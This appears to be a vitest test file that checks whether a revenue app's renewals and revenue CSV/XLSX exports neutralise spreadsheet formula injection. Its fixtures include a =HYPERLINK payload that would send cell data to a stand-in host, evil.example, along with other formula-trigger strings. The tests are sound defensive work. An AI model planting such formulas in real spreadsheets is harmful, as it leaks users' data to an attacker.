import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/support/app.js';
import { cliActor } from '../audit/actor.js';
import { exportReport } from '../metrics/export.js';
import type { MrrMonth } from '../metrics/report.js';

/** Spreadsheet formula injection (OWASP "CSV injection"): user text must never reach a sheet as a formula. */
let t: TestApp;
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

beforeAll(async () => {
  t = await createTestApp();
  for (const [name, externalId] of [
    [HYPERLINK, '@SUM(1+1)'],
    ['-2+3', '+cmd'],
    ['Plain name', '\tTAB'],
  ] as const) {
    const account = await t.services.accounts.create(cliActor, { name, externalId });
    await t.services.subscriptions.recordVersion(cliActor, account.id, {
      subscriptionExternalId: `sub-${externalId}`,
      amountMinor: 1_200_000,
      currency: 'CNY',
      interval: 'year',
      startsOn: '2025-08-01',
    });
  }
});
afterAll(() => t.close());

describe('exports escape cells a spreadsheet would run as a formula', () => {
  it('renewals CSV: an account named =HYPERLINK(…) arrives as text, numbers stay numbers', async () => {
    const csm = await t.as('csm');
    const r = await t.app.inject({
      method: 'GET',
      url: '/api/renewals/export?days=90&sort=name&lang=en',
      headers: csm.headers,
    });
    expect(r.statusCode).toBe(200);
    const rows = Papa.parse<string[]>(r.body.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const byName = new Map(rows.slice(1).map((row) => [row[0], row]));
    expect([...byName.keys()].sort()).toEqual([`'${HYPERLINK}`, "'-2+3", 'Plain name'].sort());
    expect(byName.get(`'${HYPERLINK}`)?.[1]).toBe("'@SUM(1+1)");
    expect(byName.get("'-2+3")?.[1]).toBe("'+cmd");
    expect(byName.get('Plain name')?.[1]).toBe("'\tTAB");
    // daysLeft and ARR are numbers, written bare.
    expect(byName.get('Plain name')?.slice(3, 5)).toEqual(['47', '12000']);
  });

  it('revenue CSV and XLSX: negative money stays a number, text cells are escaped', async () => {
    const month = {
      month: '=1+1',
      startingMrr: 100,
      newMrr: 0,
      expansionMrr: 0,
      reactivationMrr: 0,
      contractionMrr: -50,
      churnedMrr: -25,
      netNewMrr: -75,
      endingMrr: 25,
      arr: 300,
      customers: { starting: 1, new: 0, reactivated: 0, churned: 0, ending: 1 },
    } as unknown as MrrMonth;
    const csv = await exportReport({ currency: 'CNY', months: [month] }, 'csv', 'en');
    const line = Papa.parse<string[]>(String(csv.body).replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data[1];
    expect(line.slice(0, 7)).toEqual(["'=1+1", '1', '0', '0', '0', '-0.5', '-0.25']);
    const xlsx = await exportReport({ currency: 'CNY', months: [month] }, 'xlsx', 'en');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    const row = workbook.worksheets[0].getRow(2);
    expect(row.getCell(1).value).toBe("'=1+1");
    expect(row.getCell(6).value).toBe(-0.5);
  });
});
